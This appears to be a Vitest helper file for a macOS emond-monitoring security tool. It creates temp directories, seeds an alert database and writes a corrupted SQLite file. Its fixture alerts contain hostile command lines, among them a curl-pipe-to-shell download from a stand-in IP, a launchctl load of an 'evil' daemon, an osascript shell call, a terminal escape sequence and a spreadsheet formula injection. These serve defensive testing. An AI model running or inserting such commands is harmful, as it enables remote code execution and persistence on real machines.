import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach } from 'vitest';

/** A fresh temporary directory per call, removed after the test. */
const made: string[] = [];

export function tempDir(prefix = 'emondguard-store-'): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), prefix));
  made.push(dir);
  return dir;
}

afterEach(() => {
  for (const dir of made.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});

/** A database path in a fresh directory (the file does not exist yet). */
export function tempDbPath(): string {
  return path.join(tempDir(), 'alerts.db');
}

export const isRoot = typeof process.getuid === 'function' && process.getuid() === 0;

/**
 * The database behind the CLI's golden outputs: fixed times, three rules, every status, a merged
 * alert, a throttled window, drops and agent events, and a command line carrying a terminal
 * escape sequence (which the table must show, not execute).
 */
export async function seedCliStore(file: string): Promise<void> {
  const { AlertStore } = await import('../../src/storage/alert-store.js');
  const { makeAlert, testRule } = await import('./alerts.js');
  const now = Date.parse('2025-08-08T00:00:00Z');
  const store = AlertStore.open(file, { now: () => now });
  const emond = testRule();
  const high = testRule({ id: 'b7c1a1f0-0000-4000-8000-000000000001', name: 'Emond Rule With Command Action', severity: 'high', risk_score: 73, note: undefined, references: [] });
  const { setAlertId } = await import('../../src/alerts/alert-id.js');
  const first = makeAlert({ time: '2025-08-06T22:10:05.000Z', pid: 501, executable: '/bin/sh', args: ['sh', '-c', 'curl -fsSL http://203.0.113.7/a.sh | sh'] });
  first.process.parent.code_signature = { exists: true, signing_id: 'com.apple.emond' };
  const seeded = [
    { document: first, context: { note: emond.note as string, references: emond.references as string[], source: emond.source as string } },
    { document: makeAlert({ time: '2025-08-07T08:00:00.000Z', pid: 502, executable: '/usr/bin/python3', args: ['python3', '-c', 'import socket,os;s=socket.socket()'] }) },
    { document: makeAlert({ time: '2025-08-07T09:30:00.000Z', pid: 503, executable: '/bin/launchctl', args: ['launchctl', 'load', '-w', '/Library/LaunchDaemons/com.evil.plist'] }) },
    { document: makeAlert({ time: '2025-08-07T10:45:12.000Z', pid: 504, rule: high, executable: '/usr/bin/osascript', args: ['osascript', '-e', 'do shell script "id"'] }) },
    { document: makeAlert({ time: '2025-08-07T11:00:00.000Z', pid: 505, executable: '/bin/echo', args: ['echo', '\u001b[2Jgotcha', 'a,b "quoted"'] }), count: 4, lastSeen: Date.parse('2025-08-07T11:00:40.000Z') },
    // Over its key's max_signals: stored, its notification held back.
    { document: makeAlert({ time: '2025-08-07T12:00:00.000Z', pid: 506, executable: '/usr/bin/base64', args: ['=HYPERLINK("http://x")', '-d', 'payload'], userName: 'root' }), notified: false },
  ];
  // Fixed ids, so the golden outputs do not change from run to run.
  seeded.forEach((alert, i) => setAlertId(alert.document, `0000000${i + 1}-0000-4000-8000-00000000000${i + 1}`));
  const ids = store.insertAlerts(seeded);
  store.setStatus(ids[1] as number, 'acknowledged', { by: 'alice', note: 'checking with IT' });
  store.setStatus(ids[2] as number, 'resolved', { by: 'bob', note: 'removed /etc/emond.d/rules/evil.plist' });
  store.commit({
    suppressions: [
      { ruleId: emond.id, ruleName: emond.name, windowStart: Date.parse('2025-08-07T11:00:00Z'), windowEnd: Date.parse('2025-08-07T11:05:00Z'), emitted: 100, merged: 3, suppressed: 250 },
    ],
    events: [
      { kind: 'start', message: 'agent started', time: Date.parse('2025-08-06T20:00:00Z') },
      { kind: 'drops', message: 'kernel dropped exec events', count: 12, time: Date.parse('2025-08-07T11:02:00Z') },
    ],
  });
  store.close();
}

/**
 * An emondguard database whose alert pages were scribbled over (a disk fault): still SQLite by its
 * header, so it is damaged, not foreign, and fails the integrity check when opened for writing.
 */
export async function writeDamagedStore(file: string): Promise<void> {
  const { AlertStore } = await import('../../src/storage/alert-store.js');
  const { makeAlert } = await import('./alerts.js');
  const store = AlertStore.open(file);
  store.insertAlerts(Array.from({ length: 500 }, (_, i) => ({ document: makeAlert({ pid: i + 1 }) })));
  store.close();
  const bytes = fs.readFileSync(file);
  const pageSize = bytes.readUInt16BE(16);
  // Scribble over the middle of the file: b-tree pages of the alerts table and its indexes.
  const start = pageSize * 4;
  for (let i = start; i < Math.min(bytes.length - pageSize, start + pageSize * 20); i += 7) bytes[i] = 0xa5;
  fs.writeFileSync(file, bytes);
}
